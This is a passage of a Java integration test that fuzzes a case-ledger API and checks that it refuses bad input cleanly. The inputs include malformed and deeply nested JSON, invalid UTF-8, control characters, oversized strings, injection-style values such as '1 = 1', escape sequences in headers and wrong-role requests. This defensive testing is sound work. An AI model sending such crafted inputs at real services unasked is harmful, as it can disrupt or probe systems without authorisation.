            for (int i = 0; i < 3; i++) {
                malformed.add(text.substring(0, 1 + random.nextInt(text.length() - 1)));
            }
            for (String body : pick(malformed, 9)) {
                add(endpoint, "malformed JSON", abbreviate(body), base(endpoint).withBody(utf8(body)), MALFORMED);
            }
            List<String> roots = new ArrayList<>(List.of("[]", "\"x\"", "42", "true", "[" + text + "]", "\"" + text.replace("\"", "\\\"") + "\""));
            if (endpoint.bodyRequired()) {
                roots.add("null");
            }
            for (String root : roots) {
                add(endpoint, "wrong root type", abbreviate(root), base(endpoint).withBody(utf8(root)), MALFORMED);
            }
            add(endpoint, "deep nesting", "10000 arrays", base(endpoint).withBody(nestedArrays(10_000)), MALFORMED);
            add(endpoint, "deep nesting", "10000 objects", base(endpoint).withBody(utf8("{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000))), MALFORMED);
            for (byte[] junk : pick(NOT_UTF_8, 3)) {
                int at = text.indexOf("\":\"") + 3;
                add(endpoint, "invalid UTF-8", hex(junk), base(endpoint).withBody(concat(Arrays.copyOf(valid, at), junk,
                        Arrays.copyOfRange(valid, at, valid.length))), MALFORMED);
            }
        }

        private void field(Endpoint endpoint, Map<String, Object> sample, Field field) {
            Shape shape = field.shape();
            String name = field.name();
            for (String wrong : pick(wrongJsonTypes(shape), 3)) {
                add(endpoint, "wrong JSON type", name + "=" + wrong, base(endpoint).withBody(render(with(sample, field, utf8(wrong)))), MALFORMED);
            }
            Map<String, Object> without = without(sample, field);
            if (refusedByTheMapper(render(without), endpoint.body())) {
                add(endpoint, "missing or null field", name + " left out", base(endpoint).withBody(render(without)), MALFORMED);
            }
            Map<String, Object> withNull = with(sample, field, utf8("null"));
            if (refusedByTheMapper(render(withNull), endpoint.body())) {
                add(endpoint, "missing or null field", name + "=null", base(endpoint).withBody(render(withNull)), MALFORMED);
            }
            if (shape == Shape.TEXT || shape == Shape.TEXT_LIST) {
                freeText(endpoint, sample, field);
                return;
            }
            if (shape == Shape.OBJECT) {
                return;
            }
            for (String value : pick(wrongTexts(shape), shape == Shape.IDENTITY_NUMBER ? 24 : 6)) {
                add(endpoint, kindOfWrongText(shape), name + "=" + abbreviate(value), base(endpoint).withBody(render(with(sample, field, quote(value)))),
                        MALFORMED);
            }
            if (shape == Shape.ENUM) {
                for (String number : List.of("0", "1", String.valueOf(random.nextInt(1_000)), "-1")) {
                    add(endpoint, "enum as number", name + "=" + number, base(endpoint).withBody(render(with(sample, field, utf8(number)))), MALFORMED);
                }
            }
            int huge = MEGABYTE + random.nextInt(2 * MEGABYTE);
            add(endpoint, "huge string", name + " of " + huge + " characters",
                    base(endpoint).withBody(render(with(sample, field, quote("9".repeat(huge))))), TOO_LARGE);
            int large = 100_000 + random.nextInt(800_000);
            add(endpoint, "huge string", name + " of " + large + " characters",
                    base(endpoint).withBody(render(with(sample, field, quote("9".repeat(large))))), MALFORMED);
            String control = "\\u00" + String.format("%02x", random.nextInt(0x20));
            add(endpoint, "control characters", name + " with " + control,
                    base(endpoint).withBody(render(with(sample, field, utf8("\"a" + control + "b\"")))), MALFORMED);
        }

        /** Free text may say anything a person writes, so only what the ledger refuses in any text goes into it. */
        private void freeText(Endpoint endpoint, Map<String, Object> sample, Field field) {
            boolean list = field.shape() == Shape.TEXT_LIST;
            for (int i = 0; i < 2; i++) {
                int control = pick(List.of(0x00, 0x01, 0x07, 0x08, 0x0B, 0x0C, 0x1B, 0x1F, 0x7F, 0x85, 0x9B), 1).get(0);
                String text = "\"A few\\u" + String.format("%04x", control) + "words\"";
                add(endpoint, "control characters", field.name() + " with U+" + String.format("%04X", control),
                        base(endpoint).withBody(render(with(sample, field, utf8(list ? "[" + text + "]" : text)))), MALFORMED);
            }
            byte rawControl = (byte) (1 + random.nextInt(0x1F));
            byte[] unescaped = concat(utf8(list ? "[\"a" : "\"a"), new byte[] {rawControl}, utf8(list ? "\"]" : "\""));
            add(endpoint, "control characters", field.name() + " with raw byte " + rawControl,
                    base(endpoint).withBody(render(with(sample, field, unescaped))), MALFORMED);
            int length = 20_001 + random.nextInt(180_000);
            String tooLong = "\"" + "x".repeat(length) + "\"";
            add(endpoint, "text too long", field.name() + " of " + length + " characters",
                    base(endpoint).withBody(render(with(sample, field, utf8(list ? "[" + tooLong + "]" : tooLong)))), MALFORMED);
            if (list) {
                for (String wrong : List.of("[null]", "[[]]", "[{}]", "[\"a\", null]")) {
                    add(endpoint, "wrong JSON type", field.name() + "=" + wrong, base(endpoint).withBody(render(with(sample, field, utf8(wrong)))),
                            MALFORMED);
                }
            }
        }

        // ---- headers a command reads

        private void commandHeaders(Endpoint endpoint) {
            for (String ifMatch : pick(MALFORMED_IF_MATCH, 4)) {
                add(endpoint, "malformed If-Match", abbreviate(ifMatch), base(endpoint).withHeader("If-Match", ifMatch), MALFORMED);
            }
            List<String> keys = List.of("k".repeat(201 + random.nextInt(4_000)), "key\u0085", "key\u009b[31m", "key\u007f",
                    "\u0080".repeat(10));
            for (String key : pick(keys, 2)) {
                add(endpoint, "malformed Idempotency-Key", abbreviate(key), base(endpoint).withHeader("Idempotency-Key", key), MALFORMED);
            }
            String correlation = pick(List.of("c".repeat(201 + random.nextInt(4_000)), "id\u0085", "id\u007f"), 1).get(0);
            add(endpoint, "malformed X-Correlation-Id", abbreviate(correlation), base(endpoint).withHeader("X-Correlation-Id", correlation),
                    MALFORMED);
        }

        // ---- building requests

        private void add(Endpoint endpoint, String kind, String what, Draft draft, Set<Integer> expected) {
            attempts.add(new Attempt(endpoint, kind, what, draft.request(), expected));
        }

        /** The well-formed request every attempt on the endpoint starts from. */
        private Draft base(Endpoint endpoint) {
            Map<String, String> path = new LinkedHashMap<>();
            endpoint.pathVariables().forEach(variable -> path.put(variable.name(), encode(sample(variable.type(), variable.genericType()))));
            Map<String, String> query = new LinkedHashMap<>();
            endpoint.parameters().stream()
                    .filter(parameter -> parameter.required() || shape(parameter.type(), parameter.genericType()) == Shape.TEXT)
                    .forEach(parameter -> query.put(parameter.name(), encode(sample(parameter.type(), parameter.genericType()))));
            byte[] body = endpoint.body() == null ? new byte[0] : render(sampleObject(endpoint.body()));
            // A write says it is JSON even without a body, as the ledger's clients do: without it the attempt would be
            // refused as a possible cross-site request, whatever else is wrong with it.
            boolean json = endpoint.body() != null || !endpoint.method().equals("GET");
            return new Draft(endpoint.method(), endpoint.pattern(), path, query, user(endpoint), null, new LinkedHashMap<>(),
                    body, json ? "application/json" : null, false);
        }

        /** A sample a field, path variable or parameter of this type accepts, as text. */
        private String sample(Class<?> type, Type genericType) {
            return switch (shape(type, genericType)) {
                case UUID_ID -> existing.getOrDefault(type, new UUID(random.nextLong(), random.nextLong()).toString());
                case TEXT_ID -> TEXT_IDS.get(type);
                case IDENTITY_NUMBER -> identityNumber(random.nextInt(1_000), 0);
                case ENUM -> ((Enum<?>) type.getEnumConstants()[0]).name();
                case INSTANT -> "2026-03-02T08:15:00Z";
                case DATE -> "2026-03-02";
                case BOOLEAN -> "true";
                case INTEGER -> "3";
                // A name nothing is called: a request naming it is refused whatever else it says.
                case TEXT -> "nothing-is-called-this";
                case TEXT_LIST, OBJECT -> throw new IllegalArgumentException(type + " has no text form");
            };
        }

        private Map<String, Object> sampleObject(Class<?> record) {
            Map<String, Object> object = new LinkedHashMap<>();
            for (RecordComponent component : record.getRecordComponents()) {
                Shape shape = shape(component.getType(), component.getGenericType());
                object.put(component.getName(), switch (shape) {
                    case OBJECT -> sampleObject(component.getType());
                    case TEXT -> quote("A few words.");
                    case TEXT_LIST -> utf8("[\"school\"]");
                    case BOOLEAN, INTEGER -> utf8(sample(component.getType(), component.getGenericType()));
                    default -> quote(sample(component.getType(), component.getGenericType()));
                });
            }
            return object;
        }

        private List<String> wrongTexts(Shape shape) {
            List<String> wrong = new ArrayList<>(switch (shape) {
                case INSTANT -> IMPOSSIBLE_INSTANTS;
                case DATE -> IMPOSSIBLE_DATES;
                case INTEGER -> IMPOSSIBLE_NUMBERS;
                case ENUM -> UNKNOWN_ENUM_NAMES;
                case IDENTITY_NUMBER -> IntStream.range(0, 12).mapToObj(i -> impossibleIdentityNumber()).toList();
                case BOOLEAN -> List.of("maybe", "yes", "ja", "nej", "1 = 1", "tru");
                default -> List.of();
            });
            wrong.addAll(INJECTIONS);
            wrong.add("x".repeat(300 + random.nextInt(5_000)));
            return wrong;
        }

        private String kindOfWrongText(Shape shape) {
            return switch (shape) {
                case INSTANT, DATE -> "invalid date or instant";
                case IDENTITY_NUMBER -> "impossible identity number";
                case ENUM -> "unknown enum value";
                default -> "injection in typed field";
            };
        }

        /** An identity number that cannot be: wrong check digit, a day that does not exist, or the wrong form. */
        private String impossibleIdentityNumber() {
            int serial = random.nextInt(1_000);
            return switch (random.nextInt(6)) {
                case 0 -> identityNumber(serial, 1 + random.nextInt(9));
                case 1 -> "2015" + pick(List.of("00", "13", "99"), 1).get(0) + "12-" + String.format("%03d", serial) + random.nextInt(10);
                case 2 -> "2015" + pick(List.of("0100", "0132", "0230", "0431", "1100"), 1).get(0) + "-" + String.format("%03d", serial) + "0";
                case 3 -> pick(List.of("20230229", "19000229", "21000229", "20150392", "20150360"), 1).get(0) + "-" + String.format("%03d", serial) + "5";
                case 4 -> identityNumber(serial, 0).substring(2);
                default -> pick(List.of("2015031A-2382", "20150312--2382", "20150312 2382", "20150312-23821", "2015-03-12-2382",
                        "\uff12\uff10\uff11\uff15\uff10\uff13\uff11\uff12-\uff12\uff13\uff18\uff12", "20150312-238", "+20150312-2382"), 1).get(0);
            };
        }

        private <T> List<T> pick(List<T> from, int count) {
            List<T> shuffled = new ArrayList<>(from);
            java.util.Collections.shuffle(shuffled, random);
            return shuffled.subList(0, Math.min(count, shuffled.size()));
        }
    }

    /** A request being put together; each change gives a new draft. */
    private record Draft(String method, String pattern, Map<String, String> path, Map<String, String> query, String user,
                         String authorization, Map<String, String> headers, byte[] body, String contentType, boolean chunked) {

        Draft withPath(String name, String value) {
            Map<String, String> changed = new LinkedHashMap<>(path);
            changed.put(name, value);
            return new Draft(method, pattern, changed, query, user, authorization, headers, body, contentType, chunked);
        }

        Draft withQuery(String name, String value) {
            Map<String, String> changed = new LinkedHashMap<>(query);
            changed.put(name, value);
            return new Draft(method, pattern, path, changed, user, authorization, headers, body, contentType, chunked);
        }

        Draft withoutQuery(String name) {
            Map<String, String> changed = new LinkedHashMap<>(query);
            changed.remove(name);
            return new Draft(method, pattern, path, changed, user, authorization, headers, body, contentType, chunked);
        }

        Draft as(String other) {
            return new Draft(method, pattern, path, query, other, null, headers, body, contentType, chunked);
        }

        Draft withAuthorization(String value) {
            return new Draft(method, pattern, path, query, null, value, headers, body, contentType, chunked);
        }

        Draft withHeader(String name, String value) {
            Map<String, String> changed = new LinkedHashMap<>(headers);
            changed.put(name, value);
            return new Draft(method, pattern, path, query, user, authorization, changed, body, contentType, chunked);
        }

        Draft withMethod(String other) {
            return new Draft(other, pattern, path, query, user, authorization, headers, body, contentType, chunked);
        }

        Draft withBody(byte[] other) {
            return withBody(other, "application/json");
        }

        Draft withBody(byte[] other, String otherContentType) {
            return new Draft(method, pattern, path, query, user, authorization, headers, other, otherContentType, chunked);
        }

        Draft inChunks() {
            return new Draft(method, pattern, path, query, user, authorization, headers, body, contentType, true);
        }

        RawHttp.Request request() {
            String target = pattern;
            for (Map.Entry<String, String> variable : path.entrySet()) {
                target = target.replace("{" + variable.getKey() + "}", variable.getValue());
            }
            if (!query.isEmpty()) {
                target += "?" + query.entrySet().stream().map(entry -> entry.getKey() + "=" + entry.getValue()).collect(Collectors.joining("&"));
            }
            List<Map.Entry<String, String>> lines = new ArrayList<>();
            if (user != null) {
                lines.add(HostileInputIT.authorization(user));
            } else if (authorization != null) {
                lines.add(RawHttp.header("Authorization", authorization));
            }
            if (contentType != null) {
                lines.add(RawHttp.header("Content-Type", contentType));
            }
            headers.forEach((name, value) -> lines.add(RawHttp.header(name, value)));
            return new RawHttp.Request(method, target, lines, body, chunked);
        }
    }

    // ---- checking an answer

    private void check(Attempt attempt, RawHttp.Answer answer, List<String> failures, Set<String> types) {
        String problem = answer.text();
        if (!attempt.expected().contains(answer.status())) {
            failures.add(describe(attempt) + " answered " + answer.status() + ", expected one of " + attempt.expected() + ": " + abbreviate(problem));
            return;
        }
        String contentType = answer.header("Content-Type");
        if (contentType == null || !contentType.startsWith("application/problem+json")) {
            failures.add(describe(attempt) + " answered " + answer.status() + " as " + contentType + ": " + abbreviate(problem));
            return;
        }
        List<String> faults = ProblemChecks.faults(answer.status(), contentType, problem);
        if (!faults.isEmpty()) {
            failures.add(describe(attempt) + " answered a problem that " + String.join(", ", faults) + ": " + abbreviate(problem));
        } else {
            types.add(ProblemChecks.type(problem));
        }
        if (STACK_TRACE.matcher(problem).find()) {
            failures.add(describe(attempt) + " leaked a stack trace: " + abbreviate(problem));
        }
    }

    private static String describe(Attempt attempt) {
        return attempt.kind() + " [" + abbreviate(attempt.what()) + "] " + attempt.request().method() + " "
                + abbreviate(attempt.request().target()) + " (" + attempt.endpoint().name() + ")";
    }

    private boolean refusedByTheMapper(byte[] body, Class<?> type) {
        try {
            json.readValue(body, type);
            return false;
        } catch (JacksonException e) {
            return true;
        }
    }

    private long idempotencyKeys() {
        return jdbc.sql("SELECT count(*) FROM idempotent_request").query(Long.class).single();
    }

    // ---- the shapes of values, and the fields of a body

    private static final Map<Class<?>, String> TEXT_IDS = Map.of(
            StaffId.class, "anna.lind", UnitId.class, "vivalla", LegalBasisId.class, "SFS2025:400-20kap2");

    /** What kind of value a type takes, or null if the generator does not know it. */
    private static Shape shape(Class<?> type, Type genericType) {
        if (type == PersonalIdentityNumber.class) {
            return Shape.IDENTITY_NUMBER;
        }
        if (TEXT_IDS.containsKey(type)) {
            return Shape.TEXT_ID;
        }
        if (type == UUID.class
                || type.isRecord() && type.getRecordComponents().length == 1 && type.getRecordComponents()[0].getType() == UUID.class) {
            return Shape.UUID_ID;
        }
        if (type.isEnum()) {
            return Shape.ENUM;
        }
        if (type == Instant.class) {
            return Shape.INSTANT;
        }
        if (type == LocalDate.class) {
            return Shape.DATE;
        }
        if (type == Boolean.class || type == boolean.class) {
            return Shape.BOOLEAN;
        }
        if (type == Integer.class || type == int.class || type == Long.class || type == long.class) {
            return Shape.INTEGER;
        }
        if (type == String.class) {
            return Shape.TEXT;
        }
        if (type == List.class && genericType instanceof ParameterizedType list && list.getActualTypeArguments()[0] == String.class) {
            return Shape.TEXT_LIST;
        }
        // A record of one text is a typed id the generator has no valid sample of; any other record is a nested object.
        if (type.isRecord() && !(type.getRecordComponents().length == 1 && type.getRecordComponents()[0].getType() == String.class)) {
            return Shape.OBJECT;
        }
        return null;
    }

    /** A field of a JSON body, by its path from the root. */
    private record Field(List<String> path, Class<?> type, Type genericType) {

        String name() {
            return String.join(".", path);
        }

        Shape shape() {
            return HostileInputIT.shape(type, genericType);
        }
    }

    private static List<Field> fields(Class<?> record, List<String> prefix) {
        List<Field> fields = new ArrayList<>();
        for (RecordComponent component : record.getRecordComponents()) {
            List<String> path = concat(prefix, List.of(component.getName()));
            fields.add(new Field(path, component.getType(), component.getGenericType()));
            if (shape(component.getType(), component.getGenericType()) == Shape.OBJECT) {
                fields.addAll(fields(component.getType(), path));
            }
        }
        return fields;
    }

    private static Map<String, Object> with(Map<String, Object> object, Field field, byte[] value) {
        Map<String, Object> changed = copy(object);
        Map<String, Object> parent = parent(changed, field);
        parent.put(field.path().get(field.path().size() - 1), value);
        return changed;
    }

    private static Map<String, Object> without(Map<String, Object> object, Field field) {
        Map<String, Object> changed = copy(object);
        parent(changed, field).remove(field.path().get(field.path().size() - 1));
        return changed;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> parent(Map<String, Object> object, Field field) {
        Map<String, Object> parent = object;
        for (String step : field.path().subList(0, field.path().size() - 1)) {
            parent = (Map<String, Object>) parent.get(step);
        }
        return parent;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> copy(Map<String, Object> object) {
        Map<String, Object> copy = new LinkedHashMap<>();
        object.forEach((name, value) -> copy.put(name, value instanceof Map<?, ?> nested ? copy((Map<String, Object>) nested) : value));
        return copy;
    }

    /** The JSON of an object whose leaves are JSON already, as bytes (some attempts put bytes in that are no UTF-8). */
    @SuppressWarnings("unchecked")
    private static byte[] render(Map<String, Object> object) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        out.write('{');
        boolean first = true;
        for (Map.Entry<String, Object> entry : object.entrySet()) {
            if (!first) {
                out.write(',');
            }
            first = false;
            out.writeBytes(QUOTING.writeValueAsBytes(entry.getKey()));
            out.write(':');
            out.writeBytes(entry.getValue() instanceof Map<?, ?> nested ? render((Map<String, Object>) nested) : (byte[]) entry.getValue());
        }
        out.write('}');
        return out.toByteArray();
    }

    // ---- small helpers

    /**
     * Someone whose role allows the request, so that the input is what it is refused for: the unit head, who reads and
     * acts on the cases of the unit, except where only the administrator or an auditor may go.
     */
    private static String user(Endpoint endpoint) {
        if (endpoint.pattern().startsWith("/api/v1/admin") || endpoint.pattern().startsWith("/api/v1/staff")) {
            return "eva";
        }
        return endpoint.pattern().startsWith("/api/v1/audit/access-log") ? "ivo" : "lars";
    }

    /** Someone logged in whose role does not allow the request; {@code null} where every role may. */
    private static String otherUser(Endpoint endpoint) {
        if (endpoint.pattern().startsWith("/api/v1/staff")) {
            // every role reads the registry; only the administrator keeps it
            return endpoint.method().equals("GET") ? null : "lars";
        }
        if (endpoint.pattern().startsWith("/api/v1/audit/access-log")) {
            return "lars";
        }
        if (endpoint.pattern().startsWith("/api/v1/admin") || endpoint.pattern().startsWith("/api/v1/audit") && endpoint.method().equals("GET")) {
            return "anna";
        }
        if (endpoint.pattern().equals("/api/v1/persons/search")) {
            // a read, posted: auditors may; the administrator reads no one
            return "eva";
        }
        if (endpoint.pattern().equals("/api/v1/audit/cases/{caseId}/exports")) {
            // an export, posted: for review, not case work
            return "anna";
        }
        return endpoint.method().equals("GET") ? "eva" : "ivo";
    }

    private static Map.Entry<String, String> authorization(String user) {
        return RawHttp.header("Authorization", basic(user, LedgerHttp.PASSWORD));
    }

    private static RawHttp.Request post(String path, String user, String contentType, byte[] body, boolean chunked) {
        return new RawHttp.Request("POST", path, List.of(authorization(user), RawHttp.header("Content-Type", contentType)), body, chunked);
    }

    private static String basic(String user, String password) {
        return "Basic " + base64(user + ":" + password);
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    /** A valid identity number of a child born 2015-03-12, or, with a nonzero offset, one with a wrong check digit. */
    private static String identityNumber(int serial, int checkDigitOffset) {
        String nine = "150312" + String.format("%03d", serial);
        int sum = 0;
        for (int i = 0; i < nine.length(); i++) {
            int weighted = (nine.charAt(i) - '0') * (i % 2 == 0 ? 2 : 1);
            sum += weighted > 9 ? weighted - 9 : weighted;
        }
        int check = ((10 - sum % 10) % 10 + checkDigitOffset) % 10;
        return "20" + nine.substring(0, 6) + "-" + nine.substring(6) + check;
    }

    private static List<String> wrongJsonTypes(Shape shape) {
        return switch (shape) {
            // Numbers would be read as epoch seconds or days and an empty array as no date at all, so a date gets
            // every other wrong type.
            case INSTANT, DATE -> List.of("{}", "true", "false", "[[]]", "{\"year\":2026}", "[\"2026\", \"03\"]");
            // Scalars would be coerced to text, so text gets only arrays and objects.
            case TEXT -> List.of("[]", "{}", "[\"a\"]", "{\"text\":\"a\"}", "[[]]");
            case TEXT_LIST -> List.of("\"school\"", "42", "{}", "true", "{\"0\":\"school\"}");
            case BOOLEAN -> List.of("[]", "{}", "\"maybe\"", "[true]", "{\"value\":true}");
            case INTEGER -> List.of("[]", "{}", "true", "\"many\"", "1e400", "99999999999999999999", "[3]");
            case OBJECT -> List.of("\"x\"", "42", "[]", "true", "[{}]");
            default -> List.of("[]", "{}", "[\"a\"]", "{\"value\":\"a\"}", "[[]]", "true");
        };
    }

    private static byte[] nestedArrays(int depth) {
        return utf8("[".repeat(depth) + "]".repeat(depth));
    }

    private static byte[] pad(byte[] body, int size) {
        byte[] padded = Arrays.copyOf(body, Math.max(size, body.length));
        Arrays.fill(padded, body.length, padded.length, (byte) ' ');
        return padded;
    }

    private static byte[] quote(String text) {
        return QUOTING.writeValueAsBytes(text);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static String encode(String text) {
        return URLEncoder.encode(text, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static byte[] bytes(int... values) {
        byte[] bytes = new byte[values.length];
        for (int i = 0; i < values.length; i++) {
            bytes[i] = (byte) values[i];
        }
        return bytes;
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static <T> List<T> concat(List<T> first, List<T> second) {
        List<T> all = new ArrayList<>(first);
        all.addAll(second);
        return all;
    }

    private static String hex(byte[] bytes) {
        StringBuilder hex = new StringBuilder();
        for (byte b : bytes) {
            hex.append(String.format("%02X ", b));
        }
        return hex.toString().trim();
    }

    private static String abbreviate(String text) {
        String printable = text.replaceAll("\\p{Cntrl}", "?");
        return printable.length() <= 120 ? printable : printable.substring(0, 100) + "… (" + text.length() + " characters)";
    }
}
